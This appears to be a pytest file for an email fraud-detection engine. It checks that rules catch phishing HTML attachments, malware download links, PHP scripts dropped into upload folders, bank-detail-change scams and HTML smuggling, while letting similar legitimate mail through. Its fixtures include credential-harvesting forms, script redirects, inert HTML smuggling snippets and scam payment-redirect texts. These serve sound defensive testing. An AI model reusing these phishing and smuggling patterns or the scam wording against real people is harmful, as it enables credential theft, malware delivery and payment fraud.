"""Rules that describe how a fraud works (issue 13, third round): each catches its mechanism and lets the
legitimate message that looks most like it through."""

from __future__ import annotations

import pytest

from core.detection.checks.download_link import CHECK as DOWNLOAD_CHECK
from core.detection.checks.download_link import link_file
from core.detection.checks.html_attachment_phish import CHECK as HTML_CHECK
from core.detection.checks.html_attachment_phish import phishing_page
from core.detection.checks.scam_patterns import CHECK as SCAM_CHECK
from core.detection.checks.script_dropped import CHECK as SCRIPT_CHECK
from core.detection.checks.script_dropped import dropped_path
from core.mail.mime import parse_message
from tests.core.scan_support import context, names, settings


def _msg(body: str, headers: str = "", attachment: tuple[str, str, bytes] | None = None):
    head = ("From: alice@shop.example\nTo: maria@customer.example\nSubject: hello\nMIME-Version: 1.0\n" + headers)
    if attachment is None:
        raw = head + "Content-Type: text/plain; charset=utf-8\n\n" + body
    else:
        import base64
        name, ctype, data = attachment
        raw = (head + 'Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n'
               + body + f'\n--b\nContent-Type: {ctype}\nContent-Disposition: attachment; filename="{name}"\n'
               "Content-Transfer-Encoding: base64\n\n" + base64.b64encode(data).decode() + "\n--b--\n")
    return parse_message(raw.encode(), settings().scan)


def _own(domain: str = "shop.example"):
    ctx = context()
    ctx.own_domains = frozenset({domain})
    ctx.vouched = True
    return ctx


# ----------------------------------------------------------------------------------------- HTML attachments


@pytest.mark.parametrize(("page", "why"), [
    (b'<form action="https://x.example.net/p.php"><input name=u><input type="password" name=p></form>', "password"),
    (b"<FORM METHOD=POST ACTION='//collect.example.net/a'><input name=e></FORM>", "form"),
    (b'<meta http-equiv="refresh" content="0; url=https://x.example.net/">', "refresh"),
    (b'<script>window.location.replace(atob("aHR0cHM6Ly94"))</script>', "redirect"),
    (b"<script>location='https://x.example.net/#'+email</script>", "redirect"),
])
def test_phishing_pages_are_told(page: bytes, why: str) -> None:
    assert phishing_page(page) == why


@pytest.mark.parametrize("page", [
    b"<html><body><h1>Receipt</h1><a href='https://shop.example/o/1'>order</a></body></html>",
    b"<form action='/search'><input name=q></form>",  # a relative form: a saved page's search box, nowhere to post
    b"<script>document.title='Report';var x=1;</script><p>https://shop.example/report</p>",
    b"<script>function go(){location.href='#top'}</script>",  # navigates inside the page only
])
def test_honest_html_attachments_are_not(page: bytes) -> None:
    assert phishing_page(page) == ""


def test_html_check_reads_svg_and_misnamed_pages() -> None:
    page = b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href="https://x.example.net/"</script></svg>'
    msg = _msg("see attached", attachment=("invoice.svg", "image/svg+xml", page))
    assert names(HTML_CHECK.run(msg, context())) == {"ATTACH_HTML_PHISH"}
    msg = _msg("see attached", attachment=("photo.jpg", "image/jpeg", page))
    assert HTML_CHECK.run(msg, context()) == []  # not a page: a browser would not run it


def test_html_attachment_phish_is_strong() -> None:
    assert settings().verdict.classify("ATTACH_HTML_PHISH") == ("attachment", True, False)


# ------------------------------------------------------------------------------------------ download links


@pytest.mark.parametrize(("url", "name"), [
    ("https://mega.example/file/Invoice_22.iso", "Invoice_22.iso"),
    ("https://dl.example/get?file=Setup.exe&x=1", "Setup.exe"),
    ("https://www.dropbox.com/s/abc/Docs.zip?dl=1", "Docs.zip"),
    ("https://www.dropbox.com/scl/fo/abc/h?rlkey=k&dl=0", ""),
    ("https://shop.example/blog/post", ""),
])
def test_link_file(url: str, name: str) -> None:
    assert link_file(url) == name


def test_download_from_a_foreign_host_with_its_password() -> None:
    msg = _msg("Files: https://transfer.example/abc/Order_11.zip\nArchive password: 1234\n")
    assert names(DOWNLOAD_CHECK.run(msg, _own())) == {"URL_MALWARE_DOWNLOAD", "ARCHIVE_PASSWORD"}


def test_download_from_the_accounts_own_site_is_not_evidence() -> None:
    msg = _msg("The price list: https://www.shop.example/files/prices-2026.zip\n")
    assert DOWNLOAD_CHECK.run(msg, _own()) == []


def test_a_password_without_an_archive_is_not_evidence() -> None:
    # a sign-up mail that gives a first password, with an ordinary link
    msg = _msg("Your account is ready. Password: Xk29-aa\nLog in at https://portal.example.net/login\n")
    assert DOWNLOAD_CHECK.run(msg, _own()) == []


def test_an_isapi_page_is_no_download() -> None:
    """A .dll in a web link is a server page (IIS's ISAPI), not a file handed to the reader."""
    msg = _msg("Your item: http://cgi.auction.example.net/ws/eBayISAPI.dll?ViewItem&item=1566539449\n")
    assert DOWNLOAD_CHECK.run(msg, _own()) == []


def test_a_program_link_with_a_password_is_no_archive_password() -> None:
    """The password must be an archive's: a linked installer and a sign-up password in one mail are only the
    link's evidence."""
    msg = _msg("Setup: https://files.example.net/tool/setup.exe\nYour file password: Xk29-aa\n")
    assert names(DOWNLOAD_CHECK.run(msg, _own())) == {"URL_MALWARE_DOWNLOAD"}


def test_script_check_reads_the_path_as_attribution_does() -> None:
    """X-PHP-Script's address comes last: a path that itself contains " for " is read up to the last one."""
    msg = _msg("hi", "X-PHP-Script: www.shop.example/uploads/go for it/x.php for 192.0.2.1\n")
    assert names(SCRIPT_CHECK.run(msg, context())) == {"PHP_SCRIPT_DROPPED"}


def test_an_encrypted_attachment_with_its_password() -> None:
    msg = _msg("Das Passwort: rechnung7 für den Anhang.", attachment=("Rechnung.zip", "application/zip", b"PK\x03\x04"))
    assert names(DOWNLOAD_CHECK.run(msg, _own())) == {"ARCHIVE_PASSWORD"}


# ------------------------------------------------------------------------------------------ dropped scripts


@pytest.mark.parametrize(("path", "dropped"), [
    ("/wp-content/uploads/2025/10/x.php", True),
    ("/wp-includes/images/m.php", True),
    ("/.well-known/acme.php", True),
    ("/home/u/public_html/tmp/send.php", True),
    ("/wp-admin/admin-ajax.php", False),
    ("/index.php", False),
    ("/contact/send.php", False),
    ("/wp-content/plugins/forms/submit.php", False),
    ("/wp-content/uploads/2025/10/photo.jpg", False),
    ("/images/czb2fazm.php", True),  # a PHP file among the site's pictures or style sheets
    ("/wp-admin/css/colors/se9lxf/index.php", True),
    ("/wp-content/themes/shop/img/x.php", True),
    ("/mail/contact_me.php", False),
])
def test_dropped_paths(path: str, dropped: bool) -> None:
    assert bool(dropped_path(path)) is dropped


def test_script_check_reads_x_php_script() -> None:
    bad = _msg("hi", "X-PHP-Script: www.shop.example/wp-content/uploads/a.php for 192.0.2.1\n")
    good = _msg("hi", "X-PHP-Script: www.shop.example/wp-cron.php for 192.0.2.1\n")
    assert names(SCRIPT_CHECK.run(bad, context())) == {"PHP_SCRIPT_DROPPED"}
    assert SCRIPT_CHECK.run(good, context()) == []
    assert settings().verdict.classify("PHP_SCRIPT_DROPPED") == ("script", False, False)


# ---------------------------------------------------------------------------------------- payment redirect


@pytest.mark.parametrize("text", [
    "Please note we changed our bank. All outstanding invoices should be paid to the new IBAN. Do not use the old "
    "account.",
    "Wegen einer Prüfung haben wir eine neue Bankverbindung. Bitte zahlen Sie offene Rechnungen heute noch dorthin.",
    "Abbiamo nuove coordinate bancarie: le fatture in sospeso vanno pagate entro oggi sul nuovo conto.",
    # the announcement in other words, and in Russian
    "Our payment details have changed. Please keep this confidential until the audit is over.",
    "У нас новые реквизиты. Старый счет больше не используйте, оплатите сегодня же.",  # noqa: RUF001
])
def test_payment_redirect_is_content_evidence(text: str) -> None:
    got = names(SCAM_CHECK.run(_msg(text), context()))
    assert "SCAM_PAYMENT_REDIRECT" in got
    assert "SCAM_FULL_SCRIPT" not in got  # honest notices say the same words: never a full script


def test_a_bank_details_notice_alone_is_not() -> None:
    text = "From 1 March our invoices show a new IBAN. Please call us on the number in your contract to check."
    assert "SCAM_PAYMENT_REDIRECT" not in names(SCAM_CHECK.run(_msg(text), context()))


# ------------------------------------------------------------------------------------------ HTML smuggling

def _b64(head: bytes) -> str:
    import base64
    return base64.b64encode(head + bytes(400)).decode()


@pytest.mark.parametrize("page", [
    f'<script>var b=atob("{_b64(b"MZ" + bytes([0x90, 0]))}");saveAs(new Blob([b]),"invoice.exe")</script>',
    f"<script>const z = '{_b64(b'PK' + bytes([3, 4]))}'; download(z)</script>",
    f'<a href="data:application/zip;base64,{_b64(b"PK" + bytes([3, 4]))}" download="scan.zip">open</a>',
    f'<iframe src="data:application/octet-stream;base64,{_b64(b"7z")}"></iframe>',
])
def test_html_smuggling_of_a_program_or_archive_is_told(page: str) -> None:
    assert phishing_page(page.encode()) == "smuggling"


@pytest.mark.parametrize("page", [
    f'<img src="data:image/png;base64,{_b64(bytes([0x89]) + b"PNG")}">',  # an inline logo
    f'<a href="data:application/pdf;base64,{_b64(b"%PDF-1.4")}" download="receipt.pdf">receipt</a>',  # a receipt
    "<p>Order TVqQ-2231: UEsDB label printer, 2 pcs</p>",  # the shapes as words, no payload
])
def test_honest_inline_data_is_not_smuggling(page: str) -> None:
    assert phishing_page(page.encode()) == ""
